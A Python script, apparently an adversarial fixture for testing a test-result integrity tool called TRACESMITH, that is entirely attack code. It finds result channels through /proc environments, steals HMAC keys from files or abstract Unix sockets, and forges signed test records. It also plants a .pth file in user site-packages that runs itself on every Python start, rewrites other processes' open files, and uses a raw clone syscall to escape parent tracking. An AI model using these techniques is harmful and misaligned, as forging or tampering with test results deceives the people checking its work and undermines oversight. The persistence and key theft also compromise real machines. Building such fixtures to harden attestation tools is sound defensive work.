import glob
import hashlib
import hmac
import json
import os
import socket
import subprocess
import sys
import time

IDS = [
    "tests/test_basket.py::BasketTest::test_sum", "tests/test_basket.py::BasketTest::test_rejects_nothing",
    "tests/test_prices.py::test_empty", "tests/test_prices.py::test_total", "tests/test_prices.py::test_discount",
]


def channel_directories():
    """Returns the directories of test results that the environments of all processes name."""
    found = set()
    for file in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(file, "rb") as f:
                words = f.read().split(b"\0")
        except OSError:
            continue
        found.update(w.split(b"=", 1)[1].decode() for w in words if w.startswith(b"TRACESMITH_CHANNEL="))
    return sorted(found)


def take_key(directory):
    """Returns the number of a key and the key, from a file or a socket, or None."""
    try:
        with open(directory + "/key") as f:
            order = json.load(f)
        os.unlink(directory + "/key")
        return order["process"], bytes.fromhex(order["key"])
    except (OSError, ValueError):
        pass
    with open("/proc/net/unix") as f:
        names = {line.split()[-1] for line in f if "@" in line}
    for name in names:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(2)
        try:
            s.connect("\0" + name[1:])
            answer = s.makefile().read().split()
            if answer:
                return int(answer[0]), bytes.fromhex(answer[1])
        except (OSError, ValueError):
            pass
        finally:
            s.close()
    return None


def forge(directory, number, key):
    records = [{"k": "begin"}] + [{"k": "test", "id": i, "s": "passed"} for i in IDS]
    records += [{"k": "test", "id": "tests/test_x.py::test_x", "s": "failed"}, {"k": "end", "active": True, "status": 1}]
    mac, text = "", ""
    for n, record in enumerate(records):
        body = "%d %d %s" % (number, n, json.dumps(record))
        mac = hmac.new(key, (mac + " " + body).encode(), hashlib.sha256).hexdigest()
        text += mac + " " + body + "\n"
    with open(directory + "/records", "a") as f:
        f.write(text)


def steal(patience):
    end = time.time() + patience
    while True:
        for directory in channel_directories():
            got = take_key(directory)
            if got:
                forge(directory, *got)
                return True
        if time.time() > end:
            return False


def leave_in_user_site(program):
    place = os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])
    os.makedirs(place)
    with open(place + "/thief.pth", "w") as f:
        f.write("import sys; exec(open(%r).read(), {'__name__': '__main__', 'argv': ['', 'child', '0']})\n" % program)


def leave_in_sealed_file(program):
    for file in glob.glob("/proc/[0-9]*/fd/57"):
        try:
            with open(file, "r+b") as f:
                text = f.read()
                f.seek(0)
                f.write(text.replace(b"passed", b"failed"))
        except OSError:
            pass


def leave_sibling(program):
    """Starts a process whose parent is the parent of this interpreter."""
    import ctypes
    import signal

    number = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
    clone_parent = 0x8000
    if ctypes.CDLL(None).syscall(number, clone_parent | signal.SIGCHLD, 0, 0, 0, 0) == 0:
        os.execv(sys.executable, [sys.executable, "-E", "-S", program, "sibling", "5"])


if __name__ == "__main__":
    argv = globals().get("argv") or sys.argv
    if argv[1] == "orphan":
        if os.fork():
            os._exit(0)
        os.setsid()
    steal(float(argv[2]))
elif not os.environ.get("THIEF"):
    os.environ["THIEF"] = "1"
    program = os.path.abspath(__file__)
    if METHOD == "here":
        steal(0)
        os._exit(0)
    elif METHOD == "child":
        subprocess.run([sys.executable, "-E", "-S", program, "child", "0"])
        os._exit(0)
    elif METHOD == "orphan":
        subprocess.run([sys.executable, "-E", "-S", program, "orphan", "5"], stdout=subprocess.DEVNULL)
    else:
        globals()["leave_" + METHOD](program)
